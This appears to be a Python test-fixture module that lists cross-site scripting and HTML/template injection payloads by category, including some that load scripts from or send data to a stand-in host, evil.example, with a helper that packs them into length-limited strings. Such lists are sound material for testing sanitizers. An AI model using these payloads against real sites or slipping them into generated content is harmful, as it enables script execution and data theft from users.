"""Attacks on what a browser shows, by kind, as the public collections know them and in words of our own.

`RUN` stands for what would be called if one got through: `ran(7)` tells which.
"""

from typing import Final

BY_KIND: Final = {
    "a script": [
        "<script>RUN</script>",
        "<ScRiPt >RUN</sCrIpT >",
        "<script/x>RUN</script>",
        "<script\n>RUN</script\t\n x>",
        "<script src=data:,RUN></script>",
        "<script src=//evil.example/x.js></script>",
        "<script type=module>RUN</script>",
        "<script type=importmap>{\"imports\": {\"x\": \"data:text/javascript,RUN\"}}</script>",
        "<<script>RUN//<</script>",
        "<script>RUN<!--",
        "<svg><script>RUN</script></svg>",
        "<svg><script href=data:,RUN />",
        "<math><script>RUN</script></math>",
    ],
    "an event": [
        "<img src=x onerror=RUN>",
        "<img src=x onerror\x0b=RUN>",
        "<img/src=x/onerror=RUN//",
        "<img src=x:x onerror\n=\n\"RUN\">",
        "<IMG SRC=x OnErRoR=RUN>",
        "<body onload=RUN>",
        "<svg onload=RUN>",
        "<svg/onload=RUN//",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><image href=x onerror=RUN>",
        "<input autofocus onfocus=RUN>",
        "<textarea autofocus onfocus=RUN></textarea>",
        "<select autofocus onfocus=RUN></select>",
        "<a tabindex=1 autofocus onfocusin=RUN>x</a>",
        "<details open ontoggle=RUN>x</details>",
        "<video src=x onerror=RUN></video>",
        "<video><source onerror=RUN></video>",
        "<audio autoplay src=x onerror=RUN></audio>",
        "<marquee onstart=RUN>x</marquee>",
        "<iframe onload=RUN></iframe>",
        "<object data=x onerror=RUN></object>",
        "<link rel=stylesheet href=x onerror=RUN>",
        "<style onload=RUN></style>",
        "<div style=animation-name:x onanimationstart=RUN>x</div>",
        "<x contenteditable onbeforeinput=RUN>x</x>",
        "<button popovertarget=p onclick=RUN>x</button><p popover id=p ontoggle=RUN>x",
        "<div onpointerenter=RUN onmouseover=RUN onclick=RUN>x</div>",
    ],
    "an address": [
        "<a href=javascript:RUN>x</a>",
        "<a href=JaVaScRiPt:RUN>x</a>",
        "<a href=\"java&Tab;script&colon;RUN\">x</a>",
        "<a href=\"\x01javascript:RUN\">x</a>",
        "<a href=data:text/html,<script>RUN</script>>x</a>",
        "<iframe src=javascript:RUN></iframe>",
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
        "<embed src=javascript:RUN>",
        "<object data=javascript:RUN></object>",
        "<form action=javascript:RUN><button>x</button></form>",
        "<button form=f formaction=javascript:RUN>x</button><form id=f></form>",
        "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
        "<math href=javascript:RUN>x</math>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x><script>RUN</script></svg>#x\" />",
        "<area href=javascript:RUN shape=default>",
        "[x](javascript:RUN)",
        "[x](<java\nscript:RUN>)",
        "![x](javascript:RUN)",
        "[x]: javascript:RUN\n\n[x]",
        "<javascript:RUN>",
        "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+)",
    ],
    "a way out": [
        "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
        "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "<base href=//evil.example/>",
        "<base target=_top><a href=//evil.example/>x</a>",
        "<form action=//evil.example/><input name=form><button>x</button></form>",
        "<img src='//evil.example/?",
        "<img src=//evil.example/x.png>",
        "<link rel=prefetch href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css'; body { background: url(//evil.example/x) }</style>",
        "<div style=\"background: url(//evil.example/x); position: fixed; inset: 0\">x</div>",
        "![x](https://evil.example/x.png)",
        "<portal src=//evil.example/></portal>",
        "<a href=//evil.example/ ping=//evil.example/ target=_blank rel=opener>x</a>",
        "<template><img src=//evil.example/></template>",
    ],
    "a break-out": [
        "\"><script>RUN</script>",
        "'><script>RUN</script>",
        "\" autofocus onfocus=RUN x=\"",
        "' autofocus onfocus=RUN x='",
        "` onmouseover=RUN x=`",
        "</title><script>RUN</script>",
        "</textarea><script>RUN</script>",
        "</script><script>RUN</script>",
        "</style><script>RUN</script>",
        "</noscript><script>RUN</script>",
        "</template><script>RUN</script>",
        "</option></select><script>RUN</script>",
        "--><script>RUN</script><!--",
        "--!><script>RUN</script>",
        "]]><script>RUN</script>",
        "\"};RUN;//",
        "\\\";RUN;//",
        "</main></body></html><script>RUN</script>",
        "\u2028RUN\u2029",
    ],
    "a change of mind": [
        "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=RUN&gt;\">",
        "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
        "<select><noscript></select><img src=x onerror=RUN>",
        "<xmp><p title=\"</xmp><svg/onload=RUN>\">",
        "<table><td><form></td><img src=x onerror=RUN></table>",
        "<!--><img src=x onerror=RUN>-->",
        "<?xml-stylesheet href=\"javascript:RUN\"?><img src=x onerror=RUN>",
        "<![CDATA[<img src=x onerror=RUN>]]>",
        "<plaintext><img src=x onerror=RUN>",
        "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
        "<svg><style>{font-family:'<img src=x onerror=RUN>'}",
        "```\n</code></pre><img src=x onerror=RUN>\n```",
        "`</code><img src=x onerror=RUN>`",
        "| <img src=x onerror=RUN> | x |\n| --- | --- |\n| </td><svg onload=RUN> | x |",
    ],
    "a disguise": [
        "&lt;img src=x onerror=RUN&gt;",
        "&#60;img src=x onerror=RUN&#62;",
        "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
        "%3Cscript%3ERUN%3C/script%3E",
        "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
        "\\x3cimg src=x onerror=RUN\\x3e",
        "+ADw-script+AD4-RUN+ADw-/script+AD4-",
        "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<img src=x one\u00adrror=RUN>",
        "\u202e<script>RUN</script>",
    ],
    "a template": [
        "{{ [].constructor.constructor('RUN')() }}",
        "{{ 7 * 191 }}",
        "{% set x = 7 * 191 %}{{ x }}",
        "${RUN}",
        "<%= 7 * 191 %>",
        "#{7 * 191}",
        "{{ config }}{{ self.__init__.__globals__ }}",
    ],
    "a name of ours": [
        "<form id=content><input name=action><input name=submit></form>",
        "<img name=body><img name=currentScript src=x onerror=RUN>",
        "<a id=site></a><a id=site name=url href=//evil.example/>x</a>",
        "<form name=form><input name=form value=stolen></form>",
        "<meta name=csrf content=x><div data-form=x data-passkey=add>x</div>",
        "<p class='unseen said' role=alert aria-live=assertive>x</p>",
    ],
}  # fmt: skip

VECTORS: Final = [
    vector.replace("RUN", f"ran({number})")
    for number, vector in enumerate(vector for vectors in BY_KIND.values() for vector in vectors)
]
"""Each knows its own number."""
PRODUCT: Final = str(7 * 191)
"""What would be read if somebody's template was filled in."""


def packed(limit: int, *, between: str = " ") -> list[str]:
    """All vectors, as few texts as can hold them without being longer than `limit`."""
    texts = [""]
    for vector in VECTORS:
        if texts[-1] and len(texts[-1]) + len(between) + len(vector) > limit:
            texts.append("")
        texts[-1] += between + vector if texts[-1] else vector
    return texts
